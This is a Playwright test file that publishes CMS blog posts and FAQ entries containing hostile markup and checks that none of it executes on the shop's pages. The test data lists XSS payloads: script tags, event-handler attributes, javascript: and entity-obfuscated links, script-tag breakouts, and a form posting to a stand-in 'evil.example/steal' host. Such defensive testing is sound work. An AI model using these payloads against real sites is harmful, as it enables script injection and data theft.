/** Scripts in CMS content: an article's or an FAQ's markup never runs on the shop's pages. */
import { expect, test } from '@playwright/test';
import { publishEntry } from '../support/cms-admin.js';

test.describe('content from the CMS', () => {
  test('a script, an event handler or a javascript: link in an article or an FAQ never runs', async ({
    page,
    request,
  }, testInfo) => {
    test.setTimeout(60_000);
    const mark = `${testInfo.project.name}-${Date.now()}`;
    const slug = `hostile-markup-${mark}`;
    const payloads = [
      '<script>window.__hostile = "script"</script>',
      '<img src="/missing.png" alt="x" onerror="window.__hostile = \'img\'">',
      '<svg onload="window.__hostile = \'svg\'"><circle r="4"></circle></svg>',
      '<iframe src="javascript:parent.__hostile=\'iframe\'"></iframe>',
      '<a href="javascript:window.__hostile=\'link\'">Read more</a>',
      '<a href="jav&#x09;ascript:window.__hostile=\'entity\'">Also here</a>',
      '<form action="https://evil.example/steal"><button>Claim</button></form>',
      '<details open ontoggle="window.__hostile=\'toggle\'"><summary>More</summary></details>',
      '<style>body { display: none }</style>',
    ];
    const post = await publishEntry(request, 'api::blog-post.blog-post', {
      title: `Bedtime routines </script><script>window.__hostile = "title"</script> ${mark}`,
      slug,
      excerpt: '<img src=x onerror="window.__hostile = \'excerpt\'"> A calmer evening.',
      featured: false,
      content: ['A first harmless paragraph.', ...payloads].join('\n\n'),
    });
    const question = `Is it safe? <img src=x onerror="window.__hostile='question'"> ${mark}`;
    const faq = await publishEntry(request, 'api::faq-item.faq-item', {
      question,
      answer: `</script><script>window.__hostile = "answer"</script> Yes, it is ${mark}.`,
      placement: 'home',
      order: 999,
    });
    try {
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const hostile = () =>
        page.evaluate(() => (window as unknown as { __hostile?: string }).__hostile);

      await expect
        .poll(async () => (await request.get(`/blog/${slug}`)).status(), { timeout: 15_000 })
        .toBe(200);
      await page.goto(`/blog/${slug}`);
      const article = page.locator('article');
      await expect(page.getByText('A first harmless paragraph.')).toBeVisible();
      await expect(page.getByRole('heading', { level: 1 })).toContainText('</script><script>');
      // The links lost their javascript: targets; their text stays.
      await expect(article.getByText('Read more', { exact: true })).toBeVisible();
      await expect(article.getByRole('link', { name: 'Read more', exact: true })).toHaveCount(0);
      await expect(
        article.locator(
          'script, iframe, svg, form, style, [onerror], [onload], [ontoggle], a[href*="script:" i]',
        ),
      ).toHaveCount(0);
      await article.getByText('Read more', { exact: true }).click();
      await article.getByText('Also here', { exact: true }).click();
      expect(await hostile()).toBeUndefined();

      await expect
        .poll(async () => (await (await request.get('/')).text()).includes(mark), {
          timeout: 15_000,
        })
        .toBe(true);
      await page.goto('/');
      const faqButton = page.getByRole('button', { name: question });
      await faqButton.click();
      await expect(page.getByText(`Yes, it is ${mark}.`)).toBeVisible();
      // The structured data carries the answer, with `<` escaped so it cannot end its script.
      const structured = await page.locator('script[type="application/ld+json"]').allTextContents();
      const faqData = structured.find((text) => text.includes(mark)) ?? '';
      expect(faqData).toContain('\\u003c/script>');
      expect(faqData).not.toContain('</script');
      expect(await hostile()).toBeUndefined();
      expect(dialogs).toEqual([]);
    } finally {
      await post.remove();
      await faq.remove();
    }
    await expect
      .poll(async () => (await (await request.get('/')).text()).includes(mark), {
        timeout: 15_000,
      })
      .toBe(false);
    expect((await request.get(`/api/blogposts/${slug}`)).status()).toBe(404);
  });
});
